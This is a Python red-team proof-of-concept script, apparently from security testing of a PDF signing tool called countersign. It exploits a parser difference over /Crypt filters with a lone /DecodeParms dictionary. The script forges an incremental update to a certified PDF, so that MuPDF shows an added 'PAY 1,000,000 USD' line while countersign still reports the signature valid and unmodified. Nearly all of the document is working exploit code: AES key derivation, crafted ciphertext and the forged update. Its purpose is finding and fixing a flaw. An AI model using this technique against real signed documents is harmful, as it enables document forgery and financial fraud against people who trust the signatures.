# Red-team finding (2026-12-07, issue 22): a stream whose /Filter is an ARRAY [/Crypt] but whose
# /DecodeParms is a single DICTIONARY << /Name /StdCF >> is AES-decrypted by countersign
# (src/pdf/security/mod.rs SecurityHandler::stream_method: `Some(other) => other.as_dict()`
# applies a lone dictionary to the /Crypt at any index), while MuPDF takes the parameters of an
# array filter from an array only, finds none, and treats /Crypt as Identity: it shows the raw
# bytes as they are. A later revision replaces the stream with raw bytes EVIL (a content stream
# in clear) that countersign decrypts to garbage G; the signed revision held IV'||AES(G) (no
# padding), which countersign also decrypts to G. Same dictionary, same /Length: countersign's
# diff sees no change, a certified (P1) signature stays VALID; MuPDF shows EVIL.
# Variant `index1` (5th argument): /Filter [/FlateDecode /Crypt] /DecodeParms [null << /Name
# /StdCF >>]: countersign decrypts the raw bytes before the whole chain (same function ignores
# where /Crypt stands), MuPDF inflates first and decrypts after, as the chain says.
# Needs AES: run with the pyHanko venv (cryptography), e.g. /work/main/.venv/bin/python.
# Usage: python redteam_enc_crypt_decodeparms_dict.py COUNTERSIGN CLASSIC_PDF PKI_DIR OUTDIR [index1]
# Then: COUNTERSIGN verify OUTDIR/forged.pdf --trust PKI_DIR/root-ca.cert.pem --json
#         -> exit 0, VALID, modifications.level "none", objects []
#       mutool draw -F txt OUTDIR/signed.pdf 1 -> "Page 1"; OUTDIR/forged.pdf -> + "PAY 1,000,000 USD"
import hashlib, os, re, subprocess, sys, zlib
from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes

exe, classic, pki, out = sys.argv[1:5]
index1 = sys.argv[5:6] == ["index1"]
PAD = bytes.fromhex("28BF4E5E4E758A4164004E56FFFA01082E2E00B6D0683E802F0CA9FE6453697A")
def append_update(data, objs):
    """A classic incremental update redefining `objs` ({num: body})."""
    prev = int(re.findall(rb"startxref\s+(\d+)", data)[-1])
    size = max(max(int(x) for x in re.findall(rb"/Size\s+(\d+)", data)), max(objs) + 1)
    root = re.findall(rb"/Root\s+(\d+ \d+ R)", data)[-1]
    enc = re.findall(rb"/Encrypt\s+(\d+ \d+ R)", data)
    enc = b"/Encrypt " + enc[-1] if enc else b""
    ids = re.findall(rb"/ID\s*\[[^\]]*\]", data)[-1]
    buf = bytearray(data if data.endswith(b"\n") else data + b"\n")
    offsets = {}
    for num in sorted(objs):
        offsets[num] = len(buf)
        buf += b"%d 0 obj\n%s\nendobj\n" % (num, objs[num])
    xref = len(buf)
    buf += b"xref\n"
    for num in sorted(objs):
        buf += b"%d 1\n%010d 00000 n \n" % (num, offsets[num])
    buf += b"trailer\n<< /Size %d /Root %s %s %s /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
        size, root, enc, ids, prev, xref)
    return bytes(buf)


# 1. AES-128, empty user password (anyone can compute the file key, Algorithm 2).
subprocess.run(["qpdf", "--encrypt", "", "owner", "128", "--use-aes=y", "--", classic,
                f"{out}/encrypted.pdf"], check=True)
data = open(f"{out}/encrypted.pdf", "rb").read()
enc = re.search(rb"/Filter /Standard[^\n]*", data).group(0)
owner = bytes.fromhex(re.search(rb"/O <([0-9a-f]+)>", enc).group(1).decode())
perms = int(re.search(rb"/P (-?\d+)", enc).group(1)) & 0xFFFFFFFF
id0 = bytes.fromhex(re.search(rb"/ID \[ ?<([0-9a-f]+)>", data).group(1).decode())
key = hashlib.md5(PAD + owner[:32] + perms.to_bytes(4, "little") + id0).digest()
for _ in range(50):
    key = hashlib.md5(key[:16]).digest()


def cbc(num, iv, body, decrypt):
    object_key = hashlib.md5(key + num.to_bytes(3, "little") + b"\0\0sAlT").digest()
    cipher = Cipher(algorithms.AES(object_key), modes.CBC(iv))
    op = cipher.decryptor() if decrypt else cipher.encryptor()
    return op.update(body) + op.finalize()


# 2. The author's stream N: raw bytes that countersign decrypts to the same G as EVIL.
N = 31
evil = b"BT /F1 24 Tf 72 650 Td (PAY 1,000,000 USD) Tj ET %"
evil += b" " * (-len(evil) % 16)
if index1:
    # What MuPDF reads: inflate, then AES (an IV, the text, a padding block).
    iv0 = os.urandom(16)
    evil = zlib.compress(iv0 + cbc(N, iv0, evil + bytes([16]) * 16, False))
    evil += b"\n" * (-len(evil) % 16)
garbage = cbc(N, evil[:16], evil[16:], True)
iv = os.urandom(16)
planted = iv + cbc(N, iv, garbage, False)
assert len(planted) == len(evil)
page = re.search(rb"\n(\d+) 0 obj\n(<<[^\n]*?/Type /Page\b[^\n]*)\nendobj", data)
page_body = re.sub(rb"/Contents (\d+) 0 R", rb"/Contents [\1 0 R %d 0 R]" % N, page.group(2))
filters = (b"/Filter [/FlateDecode /Crypt] /DecodeParms [null << /Name /StdCF >>]" if index1
           else b"/Filter [/Crypt] /DecodeParms << /Name /StdCF >>")
head = b"<< /Length %d %s >>\nstream\n" % (len(evil), filters)
open(f"{out}/original.pdf", "wb").write(append_update(data, {
    int(page.group(1)): page_body, N: head + planted + b"\nendstream"}))
# 3. The signer certifies it: no changes permitted.
subprocess.run([exe, "sign", f"{out}/original.pdf", "-o", f"{out}/signed.pdf", "--p12",
                f"{pki}/demo.p12", "--password", "demo", "--certify", "p1"], check=True)
# 4. Mallory: stream N again, its raw bytes the clear-text EVIL.
signed = open(f"{out}/signed.pdf", "rb").read()
open(f"{out}/forged.pdf", "wb").write(append_update(signed, {N: head + evil + b"\nendstream"}))
verdict = subprocess.run([exe, "verify", f"{out}/forged.pdf", "--trust",
                          f"{pki}/root-ca.cert.pem", "--json"], capture_output=True)
print("countersign verify exit", verdict.returncode, b'"VALID"' in verdict.stdout,
      b'"level": "none"' in verdict.stdout)
for name in ("signed", "forged"):
    shown = subprocess.run(["mutool", "draw", "-F", "txt", f"{out}/{name}.pdf", "1"],
                           capture_output=True).stdout.decode("latin-1")
    print(f"mutool {name}:", " | ".join(line for line in shown.splitlines() if line.strip()))
